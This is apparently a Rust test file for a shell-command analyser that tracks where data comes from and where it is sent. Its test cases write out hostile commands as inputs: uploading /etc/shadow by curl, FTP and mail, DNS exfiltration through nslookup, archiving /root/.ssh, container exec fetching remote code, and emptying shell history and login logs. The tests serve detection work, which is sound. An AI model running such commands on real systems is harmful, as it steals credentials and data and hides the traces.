//! What leaves the machine, what is packed and encrypted for it, and commands of other containers.

use model::Provenance;

use super::*;

/// The sources of what a line prints.
fn sources(line: &str) -> Vec<Provenance> {
    outcome(|_| {}, line, None).printed.from
}

fn file(path: &str) -> Provenance {
    Provenance::File(path.to_owned())
}

#[test]
fn what_was_read_is_carried_away() {
    check(&[
        (
            "curl -T /etc/shadow ftp://192.0.2.1/",
            "read /etc/shadow ; connect 1 192.0.2.1 21 ; send 1 {content of /etc/shadow} ; fetch ftp://192.0.2.1/",
        ),
        (
            "ncftpput -u a -p b 192.0.2.1 / /etc/shadow",
            "read /etc/shadow ; connect 1 192.0.2.1 21 ; send 1 {content of /etc/shadow}",
        ),
        (
            "mutt -s x -a /etc/shadow a@example.com",
            "read /etc/shadow ; connect 1 example.com 25 ; send 1 {argument}{content of /etc/shadow}",
        ),
        ("dig +short example.com", ""),
        ("ping -c 1 example.com", ""),
    ]);
    let put = outcome(
        |_| {},
        "ftp -n 192.0.2.1",
        Some("user a b\nput /etc/shadow\nbye\n".into()),
    );
    assert!(
        put.acts
            .contains(&"send 1 {content of /etc/shadow}".to_owned()),
        "{:?}",
        put.acts
    );
}

#[test]
fn a_name_that_is_looked_up_carries_what_stands_in_it() {
    let budget = Budget::default();
    let mut world = World::new(&budget);
    let mut name = Value::unknown(file("/etc/shadow"));
    name.append(&Value::literal(".x.example.invalid"));
    run(&mut world, Call::new("nslookup".into(), vec![name]));
    let acts: Vec<String> = world
        .finish()
        .acts
        .iter()
        .map(|act| show(&act.behavior))
        .collect();
    assert_eq!(
        acts,
        [
            "connect 1 udp x.example.invalid 53",
            "send 1 {content of /etc/shadow}.x.example.invalid"
        ]
    );
    let record = Provenance::Fetched("dns:c.example.invalid".to_owned());
    assert!(sources("dig +short txt c.example.invalid @192.0.2.53").contains(&record));
}

#[test]
fn the_whole_environment_is_one_source() {
    let all = Provenance::Environment(String::new());
    assert_eq!(sources("env"), std::slice::from_ref(&all));
    assert_eq!(sources("printenv"), std::slice::from_ref(&all));
    assert_eq!(
        sources("printenv HOME"),
        [Provenance::Environment("HOME".to_owned())]
    );
}

#[test]
fn headers_carry_what_was_read_but_no_login() {
    let sent = |name: &str| {
        let budget = Budget::default();
        let mut world = World::new(&budget);
        let mut header = Value::literal(format!("{name}: "));
        header.append(&Value::unknown(file("/token")));
        let arguments = vec!["-H".into(), header, "https://example.com/".into()];
        run(&mut world, Call::new("curl".into(), arguments));
        let acts = world.finish().acts;
        acts.iter()
            .any(|act| matches!(act.behavior, Behavior::Send { .. }))
    };
    assert!(sent("X-Data"));
    assert!(!sent("Authorization"));
}

#[test]
fn archives_and_ciphers_keep_where_their_content_comes_from() {
    for line in [
        "zip -r - /root/.ssh",
        "tar czf - /root/.ssh",
        "7z a -so - /root/.ssh",
    ] {
        assert!(sources(line).contains(&file("/root/.ssh")), "{line}");
    }
    for line in [
        "gpg --batch --passphrase x -o - -c /data/a",
        "openssl enc -aes-256-cbc -k x -in /data/a",
    ] {
        let printed = outcome(|_| {}, line, None).printed;
        assert!(
            printed.was_encrypted() || line.starts_with("gpg"),
            "{line}: {printed:?}"
        );
    }
    check(&[
        (
            "gpg --batch --passphrase x -c /data/a",
            "read /data/a ; write /data/a.gpg > `{?}`",
        ),
        (
            "zip -P x -m /data/a.zip /data/a",
            "read /data/a ; delete /data/a ; write /data/a.zip > `{output of zip}`",
        ),
    ]);
}

#[test]
fn commands_of_other_containers_are_followed() {
    let tables = [
        "docker exec -it c sh -c 'curl http://192.0.2.1/x'",
        "docker -H tcp://192.0.2.9:2375 run --rm -v /:/mnt alpine sh -c 'curl http://192.0.2.1/x'",
        "kubectl -n a exec pod -- sh -c 'curl http://192.0.2.1/x'",
        "crictl exec -i abc sh -c 'curl http://192.0.2.1/x'",
    ];
    for line in tables {
        let acts = acts(line);
        assert!(acts[0].starts_with("execute "), "{line}: {acts:?}");
        assert!(
            acts.contains(&"fetch http://192.0.2.1/x".to_owned()),
            "{line}: {acts:?}"
        );
    }
    check(&[
        ("docker ps -a", "execute docker ps -a"),
        ("kubectl get pods -A", "execute kubectl get pods -A"),
    ]);
}

#[test]
fn the_null_device_in_place_of_a_file_empties_it() {
    check(&[
        (
            "ln -sf /dev/null /root/.bash_history",
            "write /root/.bash_history > ``",
        ),
        (
            "cp /dev/null /var/log/wtmp",
            "read /dev/null ; write /var/log/wtmp > ``",
        ),
    ]);
}
